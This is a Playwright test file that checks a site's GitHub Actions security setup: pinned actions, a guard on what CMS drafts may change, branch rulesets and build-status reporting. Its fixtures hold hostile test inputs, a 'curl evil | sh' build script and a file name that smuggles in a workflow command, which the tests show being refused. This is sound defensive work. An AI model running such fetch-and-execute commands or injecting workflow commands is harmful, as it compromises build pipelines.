import { spawnSync } from 'node:child_process';
import { mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { expect, test } from '@playwright/test';
import { parse } from 'yaml';
import { BUILD_STATUS_CONTEXT } from '../lib/content/cms-config';
import { sameTitle } from '../lib/content/rule-words';
import { EDITED } from '../lib/build/content-dir.cjs';
import { UPLOADS_FOLDER } from '../lib/content/uploads';

/**
 * What GitHub Pages publishes is the artifact, not out/: actions/upload-pages-artifact archives
 * the folder with tar and, unless `include-hidden-files` is true, `--exclude=.[^/]*` (its
 * action.yml). The deploy workflow's own step settings are read and the same archive is made of
 * this build, so the list is the one Pages would get.
 */
interface Step {
  uses?: string;
  with?: Record<string, unknown>;
}

test('the Pages artifact carries security.txt, .nojekyll and the build record', () => {
  const workflow = parse(readFileSync('.github/workflows/deploy.yml', 'utf8')) as {
    jobs: Record<string, { steps?: Step[] }>;
  };
  const steps = Object.values(workflow.jobs).flatMap((job) => job.steps ?? []);
  const upload = steps.find((step) => step.uses?.startsWith('actions/upload-pages-artifact@'));
  expect(upload?.with?.path, 'the workflow uploads the Pages build').toBe('out');
  const hidden = String(upload?.with?.['include-hidden-files'] ?? false) === 'true';

  const args = [
    '--directory',
    process.env.OUT_DIR ?? 'out',
    '-cvf',
    '/dev/null',
    '--exclude=.git',
    '--exclude=.github',
  ];
  if (!hidden) args.push('--exclude=.[^/]*');
  const tar = spawnSync('tar', [...args, '.'], { encoding: 'utf8' });
  expect(tar.status, tar.stderr).toBe(0);
  const files = tar.stdout.split('\n');
  expect(files).toContain('./.well-known/security.txt');
  expect(files).toContain('./.nojekyll');
  expect(files).toContain('./index.html');
  // What the next deploy compares its pages with (scripts/check-scope.mjs).
  expect(files).toContain('./build.json');
});

test('every action the workflows use is pinned by a commit', () => {
  const uses = readdirSync('.github/workflows').flatMap((file) =>
    [...readFileSync(`.github/workflows/${file}`, 'utf8').matchAll(/^\s*(?:-\s*)?uses:\s*(\S+)/gm)].map(
      (match) => match[1]!,
    ),
  );
  expect(uses.length).toBeGreaterThan(0);
  for (const action of uses) expect(action, action).toMatch(/^[\w.-]+\/[\w./-]+@[0-9a-f]{40}$/);
});

/**
 * Review before publish (docs/deploying.md#drafts-and-their-previews): preview.yml checks and
 * builds each draft, build-status.yml tells the CMS how each build went. Their shell steps run
 * here as on a runner, with a stand-in for GitHub's `gh` that answers from fixtures.
 */
interface Job {
  name?: string;
  permissions?: Record<string, string>;
  env?: Record<string, string>;
  steps: (Step & { name?: string; run?: string; id?: string })[];
}
const workflow = (file: string) =>
  parse(readFileSync(`.github/workflows/${file}`, 'utf8')) as {
    name: string;
    on: { workflow_run?: { workflows: string[] } };
    jobs: Record<string, Job>;
  };

test('only jobs that run no project code may write statuses or hold a host key', () => {
  for (const file of readdirSync('.github/workflows')) {
    for (const [name, job] of Object.entries(workflow(file).jobs)) {
      const runsCode = job.steps.some((step) => /\b(npm|npx|node)\b/.test(step.run ?? ''));
      const writes = Object.entries(job.permissions ?? {}).filter(([, level]) => level === 'write');
      const secrets = job.steps.some((step) => JSON.stringify(step).includes('secrets.'));
      if (runsCode) expect({ file, name, writes, secrets }).toEqual({ file, name, writes: [], secrets: false });
    }
  }
});

test('every build the CMS shows reports the status its configuration reads', () => {
  const status = workflow('build-status.yml');
  expect(status.on.workflow_run?.workflows.sort()).toEqual(
    [workflow('deploy.yml').name, workflow('preview.yml').name].sort(),
  );
  const script = status.jobs.report!.steps[0]!.run!;
  expect(script).toContain(`context='${BUILD_STATUS_CONTEXT}'`);
});

/** Runs build-status.yml's step for a finished or starting run; returns the status it posts. */
function reportFor(event: Record<string, string>, answers: { annotations: unknown[]; jobs: unknown[] }) {
  const job = workflow('build-status.yml').jobs.report!;
  const dir = mkdtempSync(join(tmpdir(), 'build-status-'));
  writeFileSync(join(dir, 'annotations.json'), JSON.stringify(answers.annotations));
  writeFileSync(join(dir, 'jobs.json'), JSON.stringify({ jobs: answers.jobs }));
  // gh api PATH [-f k=v]... [--jq FILTER]: fixtures for reads, a log of what it would post.
  writeFileSync(
    join(dir, 'gh'),
    `#!/bin/bash
path="$2"; shift 2
case "$path" in
  */statuses/*) printf '%s\\n' "$@" > "${dir}/posted" ;;
  */pages) echo 'https://quantivo.example/' ;;
  */jobs) jq -r "$2" "${dir}/jobs.json" ;;
  */annotations) cat "${dir}/annotations.json" ;;
esac
`,
    { mode: 0o755 },
  );
  const run = spawnSync('bash', ['-e', '-c', job.steps[0]!.run!], {
    env: {
      ...process.env,
      PATH: `${dir}:${process.env.PATH}`,
      REPO: 'acme/site',
      SHA: 'a'.repeat(40),
      RUN_ID: '7',
      RUN_URL: 'https://github.com/acme/site/actions/runs/7',
      PREVIEW_URL: 'https://previews.example/',
      NUMBER: '12',
      FIRST_PROBLEM: job.env!.FIRST_PROBLEM!,
      STAND_INS: job.env!.STAND_INS!,
      ...event,
    },
    encoding: 'utf8',
  });
  expect(run.status, run.stderr).toBe(0);
  const posted = spawnSync('cat', [join(dir, 'posted')], { encoding: 'utf8' }).stdout;
  rmSync(dir, { recursive: true, force: true });
  return Object.fromEntries(
    posted
      .split('\n')
      .filter((line) => line.includes('='))
      .map((line) => line.split(/=(.*)/s) as [string, string]),
  );
}

test('a build reports pending, then the draft’s pages or the live site, or the first problem', () => {
  const none = { annotations: [], jobs: [] };
  expect(reportFor({ ACTION: 'requested', DRAFT: 'true' }, none)).toMatchObject({
    state: 'pending',
    target_url: 'https://github.com/acme/site/actions/runs/7',
  });
  expect(reportFor({ ACTION: 'completed', CONCLUSION: 'success', DRAFT: 'true' }, none)).toMatchObject({
    context: BUILD_STATUS_CONTEXT,
    state: 'success',
    target_url: 'https://previews.example/pr-12/',
  });
  expect(reportFor({ ACTION: 'completed', CONCLUSION: 'success', DRAFT: 'false' }, none)).toMatchObject({
    state: 'success',
    description: 'Live on the site.',
    target_url: 'https://quantivo.example/',
  });

  // A preview that went on with stand-ins says so in the draft's status, as the content check warned.
  const standIns = {
    jobs: [{ conclusion: 'success', check_run_url: 'https://api.github.com/repos/acme/site/check-runs/1', steps: [] }],
    annotations: [
      { annotation_level: 'notice', title: 'Build', message: 'Compiled.', path: '.github' },
      {
        annotation_level: 'warning',
        title: 'Stand-ins',
        message: '32 stand-ins remain, e.g. content/site.yaml:24: Statutory details › CIN (legal.cin): …',
        path: '.github',
      },
    ],
  };
  expect(reportFor({ ACTION: 'completed', CONCLUSION: 'success', DRAFT: 'true' }, standIns)).toMatchObject({
    state: 'success',
    description:
      'Built, ready for review. 32 stand-ins remain, e.g. content/site.yaml:24: Statutory details › CIN (legal.cin): …',
  });

  // As GitHub lists a failed run: its jobs and the annotations of the failed one.
  const failed = {
    jobs: [
      { conclusion: 'success', check_run_url: 'https://api.github.com/repos/acme/site/check-runs/1', steps: [] },
      {
        conclusion: 'failure',
        check_run_url: 'https://api.github.com/repos/acme/site/check-runs/2',
        steps: [
          { name: 'Set up job', conclusion: 'success' },
          { name: 'Check the content', conclusion: 'failure' },
        ],
      },
    ],
    annotations: [
      { path: '.github', start_line: 1, annotation_level: 'failure', message: 'Process completed with exit code 1.' },
      {
        path: 'content/jobs/devops-engineer.yaml',
        start_line: 14,
        annotation_level: 'failure',
        message: '"Requirements" (requirements): Add at least 3 requirements.',
      },
    ],
  };
  expect(reportFor({ ACTION: 'completed', CONCLUSION: 'failure', DRAFT: 'false' }, failed)).toMatchObject({
    state: 'failure',
    description: 'content/jobs/devops-engineer.yaml:14: "Requirements" (requirements): Add at least 3 requirements.',
    target_url: 'https://github.com/acme/site/actions/runs/7',
  });
  // A problem longer than GitHub keeps is cut at its end, with "…": the file and line come first.
  const message = `Job title (title): ${sameTitle('content/jobs/devops-engineer.yaml')}`;
  const long = {
    ...failed,
    annotations: [{ ...failed.annotations[1]!, path: 'content/jobs/devops-engineer-2.yaml', start_line: 1, message }],
  };
  const { description } = reportFor({ ACTION: 'completed', CONCLUSION: 'failure', DRAFT: 'true' }, long);
  expect([...description!]).toHaveLength(140);
  expect(description).toMatch(
    /^content\/jobs\/devops-engineer-2\.yaml:1: Job title \(title\): Is also the title of .*…$/,
  );
  // A failure with no annotation of its own (a test, the build) names the step that failed.
  expect(
    reportFor({ ACTION: 'completed', CONCLUSION: 'failure', DRAFT: 'true' }, { ...failed, annotations: [] }),
  ).toMatchObject({ state: 'failure', description: 'The step “Check the content” failed: open Details for its log.' });
});

test('a draft is built under its own folder of the preview host, or of the artifact without one', () => {
  const step = workflow('preview.yml').jobs.build!.steps.find((s) => s.id === 'where')!;
  const where = (previewUrl: string) => {
    const dir = mkdtempSync(join(tmpdir(), 'preview-'));
    const output = join(dir, 'output');
    const run = spawnSync('bash', ['-e', '-c', step.run!], {
      env: { ...process.env, PREVIEW_URL: previewUrl, NUMBER: '12', GITHUB_OUTPUT: output },
      encoding: 'utf8',
    });
    expect(run.status, run.stderr).toBe(0);
    const found = readFileSync(output, 'utf8');
    rmSync(dir, { recursive: true, force: true });
    return found;
  };
  expect(where('https://previews.quantivo.example/')).toBe(
    'base_path=/pr-12\norigin=https://previews.quantivo.example\n',
  );
  expect(where('https://acme.github.io/site-previews/')).toBe(
    'base_path=/site-previews/pr-12\norigin=https://acme.github.io\n',
  );
  expect(where('')).toBe('base_path=/pr-12\norigin=\n');
});

/** Every job a job waits for, and theirs. */
const upstream = (jobs: Record<string, Job & { needs?: string | string[] }>, name: string): string[] =>
  [jobs[name]!.needs ?? []].flat().flatMap((need) => [need, ...upstream(jobs, need)]);

/**
 * A draft changes content only (issue 49): preview.yml's first job runs its guard, git only, on
 * GitHub's merge of the draft into main; here on a repository of its own, run as a runner runs a
 * step (bash -eo pipefail), with the changes a stolen editor's key could push.
 */
test.describe('a draft that changes anything but content is refused before any of its code runs', () => {
  const jobs = workflow('preview.yml').jobs as Record<string, Job & { needs?: string | string[] }>;
  const guard = jobs['content-only']!;
  const step = guard.steps.find((s) => s.id === 'content-only')!;

  /** A repository of its own whose main holds code, content and an upload. */
  function repository() {
    const dir = mkdtempSync(join(tmpdir(), 'draft-'));
    const git = (...args: string[]) => {
      const done = spawnSync('git', ['-c', 'user.name=t', '-c', 'user.email=t@example.com', ...args], {
        cwd: dir,
        encoding: 'utf8',
      });
      expect(done.status, done.stderr).toBe(0);
    };
    const write = (path: string, text: string) => {
      mkdirSync(dirname(join(dir, path)), { recursive: true });
      writeFileSync(join(dir, path), text);
    };
    /** The guard's answer on GitHub's merge of `branch` into main (main first), as a pull request's run checks it out; main stays as it was. */
    const checked = (branch: string) => {
      git('checkout', '-q', 'main');
      git('merge', '-q', '--no-ff', '-m', 'Merge the draft', branch);
      const run = spawnSync('bash', ['--noprofile', '--norc', '-eo', 'pipefail', '-c', step.run!], {
        cwd: dir,
        encoding: 'utf8',
      });
      git('reset', '-q', '--hard', 'HEAD^');
      return { status: run.status, refused: run.stdout.split('\n').filter((line) => line.startsWith('::error')) };
    };
    git('init', '-q', '-b', 'main');
    write('package.json', '{"scripts":{"build":"next build"}}\n');
    write('README.md', '# Site\n');
    write('content/jobs/devops-engineer.yaml', 'title: DevOps Engineer\n');
    write('public/images/uploads/team.jpg', 'jpeg');
    git('add', '-A');
    git('commit', '-qm', 'main');
    return { dir, git, write, checked, remove: () => rmSync(dir, { recursive: true, force: true }) };
  }

  /** The guard's answer to a draft made by `change` on such a main. */
  function guardOf(change: (git: (...args: string[]) => void, dir: string) => void) {
    const { dir, git, checked, remove } = repository();
    try {
      git('checkout', '-qb', 'cms/jobs/devops-engineer');
      change(git, dir);
      git('add', '-A');
      git('commit', '-qm', 'draft', '--allow-empty');
      return checked('cms/jobs/devops-engineer');
    } finally {
      remove();
    }
  }
  const outside = (path: string) =>
    `::error title=Draft changes content only::${path} is outside content/ and public/images/uploads/, the only folders a draft may change; a developer changes it in a pull request a code owner reviews.`;

  test('runs first, alone, with git only, and every job that runs npm waits for it', () => {
    expect(guard.steps.map((s) => s.uses?.split('@')[0] ?? s.id)).toEqual(['actions/checkout', 'content-only']);
    expect(JSON.stringify(guard)).not.toMatch(/\b(npm|npx|node)\b/);
    const runsNpm = Object.keys(jobs).filter((name) => jobs[name]!.steps.some((s) => /\bnpm\b/.test(s.run ?? '')));
    expect(runsNpm).toContain('build');
    for (const name of runsNpm) expect(upstream(jobs, name), name).toContain('content-only');
    // The folders it allows are the editors' folders, as the CMS names them.
    for (const folder of [EDITED, UPLOADS_FOLDER]) expect(step.run).toContain(` ${folder}/*`);
  });

  test('a draft that changes package.json is refused, naming it', () => {
    expect(
      guardOf((_, dir) => writeFileSync(join(dir, 'package.json'), '{"scripts":{"build":"curl evil | sh"}}\n')),
    ).toEqual({ status: 1, refused: [outside('package.json')] });
  });

  test('a draft that changes only entries and uploads passes', () => {
    expect(
      guardOf((_, dir) => {
        writeFileSync(join(dir, 'content/jobs/devops-engineer.yaml'), 'title: Senior DevOps Engineer\n');
        writeFileSync(join(dir, 'content/jobs/data-engineer.yaml'), 'title: Data Engineer\n');
        writeFileSync(join(dir, 'public/images/uploads/offsite.jpg'), 'jpeg');
      }),
    ).toEqual({ status: 0, refused: [] });
  });

  test('a file moved out of content/, a deleted file of code and a link are refused', () => {
    expect(
      guardOf((git, dir) => {
        mkdirSync(join(dir, 'scripts'));
        git('mv', 'content/jobs/devops-engineer.yaml', 'scripts/devops-engineer.mjs');
        git('rm', '-q', 'README.md');
      }),
    ).toEqual({ status: 1, refused: [outside('README.md'), outside('scripts/devops-engineer.mjs')] });
    expect(guardOf((_, dir) => symlinkSync('../../package.json', join(dir, 'content/jobs/link.yaml')))).toEqual({
      status: 1,
      refused: [
        '::error title=Draft changes content only::content/jobs/link.yaml is a link to another file, which a draft may not add.',
      ],
    });
  });

  // A draft that changed code to what main held at its check passed, and Publish put that code
  // back once main had undone it (issue 61, finding 1). The ruleset refuses Publish until the draft
  // is up to date with main, which runs the guard again, on a merge with the new main.
  test('a draft checked before main undid a change of code is checked again on the new main, and refused', () => {
    const checks = rulesOf(ruleset('main.json'), 'required_status_checks')!.parameters!;
    expect(checks.strict_required_status_checks_policy).toBe(true);
    expect(checks.required_status_checks!.map((check) => check.context)).toContain(guard.name);

    const { dir, git, write, checked, remove } = repository();
    const draft = 'cms/jobs/devops-engineer';
    const changed = '{"scripts":{"build":"next build && node scripts/stats.mjs"}}\n';
    try {
      git('branch', draft);
      // A developer's change of code reaches main; a stolen editor's key copies it into a draft.
      write('package.json', changed);
      git('commit', '-qam', 'Build statistics');
      git('checkout', '-q', draft);
      write('package.json', changed);
      write('content/jobs/devops-engineer.yaml', 'title: Senior DevOps Engineer\n');
      git('commit', '-qam', 'Senior DevOps Engineer');
      // Checked against main as it then was, the draft changes content only.
      expect(checked(draft)).toEqual({ status: 0, refused: [] });
      // Main undoes the change; merged now, the draft would put it back.
      git('checkout', '-q', 'main');
      git('revert', '--no-edit', 'HEAD');
      git('merge', '-q', '--no-ff', '-m', 'Publish', draft);
      expect(readFileSync(join(dir, 'package.json'), 'utf8')).toBe(changed);
      git('reset', '-q', '--hard', 'HEAD^');
      // Update branch (the ruleset's requirement): main merged into the draft, then checked again.
      git('checkout', '-q', draft);
      git('merge', '-q', '--no-edit', 'main');
      expect(checked(draft)).toEqual({ status: 1, refused: [outside('package.json')] });
    } finally {
      remove();
    }
  });

  test('a file’s name cannot write a workflow command of its own', () => {
    const { refused } = guardOf((_, dir) => writeFileSync(join(dir, 'notes\n::warning::all good'), ''));
    expect(refused).toEqual([outside('notes%0A::warning::all good')]);
  });
});

/**
 * The rulesets docs/editing.md has the owner import (Settings → Rules → Rulesets → Import a
 * ruleset). Editors hold the Write role, developers Maintain or Admin (GitHub's role ids 4, 2, 5).
 */
interface Ruleset {
  conditions: { ref_name: { include: string[]; exclude: string[] } };
  rules: {
    type: string;
    parameters?: Record<string, unknown> & {
      strict_required_status_checks_policy?: boolean;
      required_status_checks?: { context: string }[];
    };
  }[];
  bypass_actors: { actor_id: number; actor_type: string; bypass_mode: string }[];
}
const ruleset = (file: string) => JSON.parse(readFileSync(`.github/rulesets/${file}`, 'utf8')) as Ruleset;
const rulesOf = (set: Ruleset, type: string) => set.rules.find((rule) => rule.type === type);
const ROLES = { write: 4, maintain: 2, admin: 5 };
/** Whether a ruleset applies to a branch, as GitHub matches its patterns (`*` within a folder, `**` across). */
function applies(set: Ruleset, branch: string) {
  const ref = `refs/heads/${branch}`;
  const matches = (pattern: string) =>
    pattern === '~ALL' ||
    (pattern === '~DEFAULT_BRANCH'
      ? branch === 'main'
      : new RegExp(
          `^${pattern.replace(/[.+?^${}()|[\]\\]/g, '\\$&').replace(/\*\*|\*/g, (star) => (star === '**' ? '.*' : '[^/]*'))}$`,
        ).test(ref));
  return set.conditions.ref_name.include.some(matches) && !set.conditions.ref_name.exclude.some(matches);
}

test.describe('the rulesets the docs give', () => {
  test('main: reviewed pull requests only, with both checks passed on main as it is now', () => {
    const main = ruleset('main.json');
    expect(['main', 'cms/jobs/devops-engineer', 'feature/search'].map((b) => applies(main, b))).toEqual([
      true,
      false,
      false,
    ]);
    for (const type of ['deletion', 'non_fast_forward']) expect(rulesOf(main, type), type).toBeTruthy();
    expect(rulesOf(main, 'pull_request')!.parameters).toMatchObject({
      require_code_owner_review: true,
      dismiss_stale_reviews_on_push: true,
    });
    const checks = rulesOf(main, 'required_status_checks')!.parameters!;
    expect(checks.strict_required_status_checks_policy).toBe(true);
    expect(checks.required_status_checks!.map((check) => check.context).sort()).toEqual(
      [workflow('preview.yml').jobs['content-only']!.name, BUILD_STATUS_CONTEXT].sort(),
    );
    // Developers merge their own pull requests past the draft guard; nobody pushes to main, no editor bypasses.
    expect(main.bypass_actors).toEqual([
      { actor_id: ROLES.maintain, actor_type: 'RepositoryRole', bypass_mode: 'pull_request' },
      { actor_id: ROLES.admin, actor_type: 'RepositoryRole', bypass_mode: 'pull_request' },
    ]);
  });

  test('an editor’s key writes the content manager’s drafts only, never a developer’s branch', () => {
    const others = ruleset('branches.json');
    for (const type of ['creation', 'update', 'deletion']) expect(rulesOf(others, type), type).toBeTruthy();
    expect(rulesOf(others, 'update')!.parameters).toEqual({ update_allows_fetch_and_merge: false });
    for (const branch of ['feature/search', 'fix-footer', 'dependabot/npm_and_yarn/next-16.4.7', 'gh-pages', 'cmsx'])
      expect(applies(others, branch), branch).toBe(true);
    // Sveltia's drafts (docs/editing.md: cms/<collection>/<slug>), and main, which main.json guards.
    for (const branch of ['cms/jobs/devops-engineer', 'cms/blog/indias-quantum-mission', 'main'])
      expect(applies(others, branch), branch).toBe(false);
    const roles = others.bypass_actors.filter((actor) => actor.actor_type === 'RepositoryRole');
    expect(roles.map((actor) => actor.actor_id).sort()).toEqual([ROLES.maintain, ROLES.admin].sort());
    expect(roles.map((actor) => actor.actor_id)).not.toContain(ROLES.write);
    expect(readFileSync('docs/editing.md', 'utf8')).toContain('.github/rulesets/branches.json');
  });
});

test('when main moves, each open draft’s build shows it must be checked again, and why', () => {
  const job = workflow('drafts-behind-main.yml').jobs.behind!;
  expect(JSON.stringify(job)).not.toMatch(/\b(npm|npx|node)\b/);
  const dir = mkdtempSync(join(tmpdir(), 'behind-'));
  const pull = (ref: string, repo: string, sha: string, number: number) => ({
    head: { ref, sha, repo: { full_name: repo } },
    html_url: `https://github.com/acme/site/pull/${number}`,
  });
  writeFileSync(
    join(dir, 'pulls.json'),
    JSON.stringify([
      pull('cms/jobs/devops-engineer', 'acme/site', 'a'.repeat(40), 12),
      pull('feature/search', 'acme/site', 'b'.repeat(40), 13),
      pull('cms/jobs/data-engineer', 'someone/site', 'c'.repeat(40), 14),
      pull('cms/blog/indias-quantum-mission', 'acme/site', 'd'.repeat(40), 15),
    ]),
  );
  // gh api [--paginate] PATH [--jq FILTER | -f k=v...]: the open pull requests, and a log of each status posted.
  writeFileSync(
    join(dir, 'gh'),
    `#!/bin/bash
shift; [ "$1" = --paginate ] && shift
path="$1"; shift
case "$path" in
  */pulls[?]*) jq -r "$2" "${dir}/pulls.json" ;;
  */statuses/*) printf '%s %s\\n' "\${path##*/}" "$*" >> "${dir}/posted" ;;
esac
`,
    { mode: 0o755 },
  );
  try {
    const run = spawnSync('bash', ['--noprofile', '--norc', '-eo', 'pipefail', '-c', job.steps[0]!.run!], {
      env: { ...process.env, PATH: `${dir}:${process.env.PATH}`, REPO: 'acme/site', DRAFTS: job.env!.DRAFTS! },
      encoding: 'utf8',
    });
    expect(run.status, run.stderr).toBe(0);
    const posted = readFileSync(join(dir, 'posted'), 'utf8').trim().split('\n');
    const words =
      'Main has changed since this draft was checked. Open Details, press Update branch, and publish once it is built again.';
    expect(posted).toEqual(
      [
        ['a', 12],
        ['d', 15],
      ].map(
        ([sha, number]) =>
          `${String(sha).repeat(40)} -f context=${BUILD_STATUS_CONTEXT} -f state=failure -f description=${words} -f target_url=https://github.com/acme/site/pull/${number}`,
      ),
    );
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
});

test('the deploy builds the site and the CMS from main only, before anything else runs', () => {
  const jobs = workflow('deploy.yml').jobs as Record<string, Job & { needs?: string | string[] }>;
  const step = jobs['main-only']!.steps[0]!;
  for (const name of Object.keys(jobs).filter((n) => n !== 'main-only'))
    expect(upstream(jobs, name), name).toContain('main-only');
  const on = (ref: string) =>
    spawnSync('bash', ['--noprofile', '--norc', '-eo', 'pipefail', '-c', step.run!], {
      env: { ...process.env, GITHUB_REF: ref },
      encoding: 'utf8',
    });
  expect(on('refs/heads/main').status).toBe(0);
  const draft = on('refs/heads/cms/jobs/devops-engineer');
  expect(draft.status).toBe(1);
  expect(draft.stdout).toContain('refs/heads/cms/jobs/devops-engineer is not main');
});
